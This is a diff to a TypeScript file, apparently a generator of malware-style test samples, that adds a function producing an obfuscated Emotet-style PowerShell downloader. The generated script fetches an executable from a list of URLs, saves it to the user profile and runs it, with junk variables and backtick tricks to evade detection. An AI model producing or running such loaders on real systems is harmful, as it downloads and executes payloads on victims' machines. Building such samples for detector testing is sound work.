@@ -116,3 +116,19 @@ export function qakbotDownloader(urls: string[], path: string, exportName: strin
 function quote(s: string): string {
   return `'${s.replace(/'/g, "''")}'`;
 }
+
+/**
+ * An Emotet-style downloader (2019–2020 shape): junk assignments, a computed New-Object, a URL list split on
+ * '@' through a backticked method name, DownloadFile in a try loop, a size check, [Diagnostics.Process]::Start.
+ */
+export function emotetStyle(urls: string[], fileName: string): string {
+  return [
+    "$Wzdk='Ldmplglhwrl'",
+    `$Gxx = '${fileName}'`,
+    "$Bpg=$env:userprofile+'\\'+$Gxx+'.exe'",
+    "$Cwi=&('n'+'ew-ob'+'ject') nEt.WEBcLIeNt",
+    `$Txk='${urls.join('@')}'."SPl\`it"('@')`,
+    "foreach($Pdk in $Txk){try{$Cwi.\"dOw\`N\`lOAdfILE\"($Pdk, $Bpg);$Lvz='Smnnbokvp';If ((&('Ge'+'t-It'+'em') $Bpg).\"LeN\`gTh\" -ge 35385) {[Diagnostics.Process]::\"s\`TarT\"($Bpg);break}}catch{}}",
+    "$Kay='Dsbxwdtqsafg'",
+  ].join(';');
+}
